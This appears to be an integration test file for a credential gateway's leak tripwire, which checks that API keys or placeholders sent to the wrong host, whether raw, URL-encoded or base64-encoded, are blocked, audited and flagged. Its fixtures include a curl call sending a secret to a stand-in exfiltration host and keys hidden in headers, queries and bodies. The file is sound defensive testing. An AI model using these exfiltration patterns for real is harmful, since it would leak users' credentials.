import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { auditEvents, sessionEvents, sessions } from '@airlock/schema/db';
import { PLACEHOLDER_SECRET } from '@airlock/schema/plan';
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import {
  applyPlan,
  createConnection,
  createSessionRows,
  type GatewayWorld,
  type Sandbox,
  type SessionRows,
  startGatewayWorld,
  startSandboxd,
} from '../gateway-world.ts';

// Attacks on the leak tripwire (ADR 0125), with the real sandboxd and curl
// against the real gateway under `wrangler dev`: a sandbox that sends the
// placeholder or a real key — raw, URL-encoded or base64, in a header, the
// query or the body — to a host that is not that key's route is answered 403
// `leak_blocked`, audited without the value, and its session flagged; and an
// upstream that hands the injected key back in a response header, encoded,
// has that header dropped before the sandbox sees it.

const run = promisify(execFile);
let world: GatewayWorld;
let rows: SessionRows;
let sandbox: Sandbox;
let keyA: string;
let keyB: string;
/** An allowlisted (passthrough) host: the upstream's plain-HTTP side. */
let allowlisted: string;

async function recorded(tag: string): Promise<unknown[]> {
  return (await (await fetch(`${world.upstream.httpUrl}/__requests/${tag}`)).json()) as unknown[];
}

/** Every form of a value the tripwire promises to catch (the audit may carry none of them). */
function forms(value: string): string[] {
  const out = [value, encodeURIComponent(value)];
  for (const pad of ['', 'x', 'xy']) {
    const b64 = Buffer.from(`${pad}${value}`).toString('base64');
    out.push(b64.slice(pad === '' ? 0 : 4, 16), b64.slice(pad === '' ? 0 : 4, 16).replaceAll('+', '-'));
  }
  return out;
}

beforeAll(async () => {
  world = await startGatewayWorld(inject('airlock'));
  rows = await createSessionRows(world);
  keyA = `sk-a-${crypto.randomUUID()}`;
  keyB = `kb+${crypto.randomUUID()}/x`;
  const connectionA = await createConnection(world, rows.orgId, 'openai', { api_key: keyA });
  const connectionB = await createConnection(world, rows.orgId, 'http_api_key', { api_key: keyB });
  allowlisted = new URL(world.upstream.httpUrl).host;
  await applyPlan(
    world,
    rows,
    [
      {
        id: 'rt_leak_a',
        match: { hosts: ['api.example.com'], pathPrefixes: [], methods: [] },
        upstream: { baseUrl: world.upstream.httpsUrl },
        inject: { kind: 'bearer', target: 'authorization' },
        credential: { source: 'secret', connectionId: connectionA, field: 'api_key' },
        integration: 'openai',
      },
      {
        id: 'rt_leak_b',
        match: { hosts: ['other.example.com'], pathPrefixes: [], methods: [] },
        upstream: { baseUrl: world.upstream.httpsUrl },
        inject: { kind: 'header', target: 'x-api-key' },
        credential: { source: 'secret', connectionId: connectionB, field: 'api_key' },
        integration: 'http_api_key',
      },
    ],
    [allowlisted],
  );
  sandbox = await startSandboxd(world, rows);
  // The agent has used both connections: the gateway has resolved (and knows) both keys.
  for (const host of ['api.example.com', 'other.example.com'])
    expect((await curl(sandbox, `https://${host}/ok`)).status).toBe(200);
}, 240_000);

afterAll(async () => {
  await sandbox?.stop();
  await world?.stop();
});

async function curl(target: Sandbox, url: string, extra: string[] = []) {
  const { stdout } = await run(
    'curl',
    ['-sS', '-o', '-', '-D', join(world.dir, 'head.txt'), '-w', '\n%{http_code}', ...extra, url],
    {
      cwd: world.dir,
      env: {
        PATH: process.env.PATH ?? '/usr/bin:/bin',
        HOME: world.dir,
        HTTPS_PROXY: target.proxy,
        // curl takes the proxy for http:// URLs only from the lowercase name.
        http_proxy: target.proxy,
        CURL_CA_BUNDLE: target.caFile,
      },
      maxBuffer: 16 * 1024 * 1024,
    },
  );
  const split = stdout.lastIndexOf('\n');
  return {
    body: stdout.slice(0, split),
    status: Number(stdout.slice(split + 1)),
    head: readFileSync(join(world.dir, 'head.txt'), 'utf8'),
  };
}

/** A body file in the sandbox's working directory, for `--data-binary @file`. */
function bodyFile(name: string, content: string | Buffer): string {
  const path = join(world.dir, name);
  writeFileSync(path, content);
  return `@${path}`;
}

function expectLeakBlocked(response: { status: number; body: string; head: string }, ...secrets: string[]) {
  expect(response.status, response.body).toBe(403);
  expect(response.head.toLowerCase()).toContain('x-airlock-decision: leak_blocked');
  expect(response.body).toContain('Airlock blocked');
  for (const secret of secrets) for (const form of forms(secret)) expect(response.body).not.toContain(form);
}

describe('the leak tripwire', () => {
  it('blocks the placeholder sent to an allowlisted host in a header; the host never sees it', async () => {
    const tag = `leak-${crypto.randomUUID()}`;
    const response = await curl(sandbox, `http://${allowlisted}/ok`, [
      '-H',
      `x-test-tag: ${tag}`,
      '-H',
      `Authorization: Bearer ${PLACEHOLDER_SECRET}`,
    ]);
    expectLeakBlocked(response, PLACEHOLDER_SECRET);
    expect(await recorded(tag)).toEqual([]);
    // The same host without the placeholder is reachable: the block is about the value, not the host.
    const clean = await curl(sandbox, `http://${allowlisted}/ok`);
    expect(clean).toMatchObject({ status: 200, body: 'ok' });
  });

  it("blocks the real key, learned from an upstream echo, sent to another connection's route", async () => {
    const echoed = await curl(sandbox, 'https://api.example.com/echo-body', [
      '-H',
      `Authorization: Bearer ${PLACEHOLDER_SECRET}`,
    ]);
    expect(echoed.status).toBe(200);
    const learned = echoed.body.replace(/^Bearer /, '');
    expect(learned).toBe(keyA);
    const tag = `leak-${crypto.randomUUID()}`;
    const response = await curl(sandbox, 'https://other.example.com/ok', [
      '-H',
      `x-test-tag: ${tag}`,
      '-H',
      `x-notes: see ${learned}`,
    ]);
    expectLeakBlocked(response, keyA);
    expect(await recorded(tag)).toEqual([]);
    // Back to its own route the key is no leak (that upstream has it already).
    const home = await curl(sandbox, 'https://api.example.com/upload', [
      '--data-binary',
      bodyFile('own.json', JSON.stringify({ note: learned })),
    ]);
    expect(home.status, home.body).toBe(200);
  });

  it('blocks a key embedded in base64 inside a JSON body, at every alignment and in both alphabets', async () => {
    for (const [i, pad] of ['', 'u', 'us', 'user:'].entries()) {
      const b64 = Buffer.from(`${pad}${keyB}`).toString(i % 2 === 0 ? 'base64' : 'base64url');
      const response = await curl(sandbox, `http://${allowlisted}/upload`, [
        '-H',
        'content-type: application/json',
        '--data-binary',
        bodyFile(`b64-${i}.json`, JSON.stringify({ blob: `QUJD${b64}` })),
      ]);
      expectLeakBlocked(response, keyB);
    }
  });

  it('inspects the first 64 KiB of a large body before forwarding, and streams a clean one untouched', async () => {
    const filler = Buffer.alloc(200 * 1024, 'a');
    const dirty = Buffer.concat([filler.subarray(0, 40_000), Buffer.from(keyA), filler]);
    const blocked = await curl(sandbox, `http://${allowlisted}/upload`, [
      '--data-binary',
      bodyFile('dirty.bin', dirty),
    ]);
    expectLeakBlocked(blocked, keyA);
    const clean = Buffer.concat([filler, filler, filler]);
    const passed = await curl(sandbox, `http://${allowlisted}/upload`, [
      '--data-binary',
      bodyFile('clean.bin', clean),
    ]);
    expect(passed.status).toBe(200);
    expect(JSON.parse(passed.body)).toEqual({
      bytes: clean.length,
      sha256: createHash('sha256').update(clean).digest('hex'),
    });
  });

  it('blocks a URL-encoded key in the query (partly or fully percent-encoded)', async () => {
    const full = [...Buffer.from(keyA)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
    for (const query of [`q=${encodeURIComponent(keyB)}`, `q=${full}`]) {
      const response = await curl(sandbox, `http://${allowlisted}/ok?${query}`);
      expectLeakBlocked(response, keyA, keyB);
    }
  });

  it('treats the placeholder headed for a denied host as a leak, not just a denial', async () => {
    const response = await curl(sandbox, `https://exfil.example.org/collect?k=${PLACEHOLDER_SECRET}`);
    expectLeakBlocked(response, PLACEHOLDER_SECRET);
  });

  it('lets the placeholder through where the gateway replaces it (the normal flow)', async () => {
    const response = await curl(sandbox, 'https://api.example.com/ok', [
      '-H',
      `Authorization: Bearer ${PLACEHOLDER_SECRET}`,
    ]);
    expect(response).toMatchObject({ status: 200, body: 'ok' });
  });

  it('drops response headers carrying the injected key encoded: Location and Set-Cookie', async () => {
    const response = await curl(sandbox, 'https://api.example.com/redirect-credential', [
      '-H',
      `Authorization: Bearer ${PLACEHOLDER_SECRET}`,
    ]);
    expect(response.status).toBe(302);
    for (const form of forms(`Bearer ${keyA}`)) expect(response.head).not.toContain(form);
    for (const form of forms(keyA)) expect(response.head).not.toContain(form);
    const head = response.head.toLowerCase();
    expect(head).not.toContain('location:');
    expect(head).toContain('set-cookie: plain=1');
    expect(head).toContain('x-kept: nothing secret');
    expect(head).toMatch(/x-airlock-scrubbed: location, set-cookie/);
  });

  it('audits each block as leak_blocked without the value, and flags the session', async () => {
    await world.harness(rows.sessionId, 'flush-audit');
    const trail = await world.db
      .select()
      .from(auditEvents)
      .where(and(eq(auditEvents.sessionId, rows.sessionId), eq(auditEvents.decision, 'leak_blocked')));
    expect(trail.length).toBeGreaterThanOrEqual(9);
    const text = JSON.stringify(trail);
    for (const secret of [keyA, keyB, PLACEHOLDER_SECRET])
      for (const form of forms(secret)) expect(text).not.toContain(form);
    const byWhere = (where: string) => trail.filter((e) => e.detail.where === where);
    expect(byWhere('header')[0]?.detail).toMatchObject({ leak: 'placeholder', header: 'authorization' });
    // (Where the two alphabets encode a key alike, the form says base64.)
    expect(byWhere('body').map((e) => e.detail.form)).toEqual(expect.arrayContaining(['base64', 'raw']));
    expect(byWhere('body').every((e) => typeof e.detail.offset === 'number')).toBe(true);
    expect(byWhere('query').map((e) => e.detail.form)).toContain('url-encoded');
    expect(trail.find((e) => e.host === 'other.example.com')).toMatchObject({
      routeId: 'rt_leak_b',
      detail: { leak: 'credential', where: 'header', header: 'x-notes', destination: 'brokered' },
    });
    const [session] = await world.db.select().from(sessions).where(eq(sessions.id, rows.sessionId));
    expect(session?.leakBlockedAt).toBeInstanceOf(Date);
    expect(session?.status).toBe('running');
  });

  it('stops the session on a leak when its profile version says so', async () => {
    const strict = await createSessionRows(world);
    await applyPlan(world, strict, [], [allowlisted], {}, { stopSessionOnLeak: true });
    const strictSandbox = await startSandboxd(world, strict);
    try {
      const response = await curl(strictSandbox, `http://${allowlisted}/ok?k=${PLACEHOLDER_SECRET}`);
      expectLeakBlocked(response, PLACEHOLDER_SECRET);
      expect(response.body).toContain('stopped');
      let status = '';
      for (let i = 0; i < 100 && status !== 'stopping'; i++) {
        const [row] = await world.db.select().from(sessions).where(eq(sessions.id, strict.sessionId));
        status = row?.status ?? '';
        if (status !== 'stopping') await new Promise((r) => setTimeout(r, 100));
      }
      expect(status).toBe('stopping');
      const history = await world.db
        .select()
        .from(sessionEvents)
        .where(eq(sessionEvents.sessionId, strict.sessionId));
      expect(history.at(-1)).toMatchObject({ toStatus: 'stopping', reason: 'a credential leak was blocked' });
    } finally {
      await strictSandbox.stop();
    }
  });
});
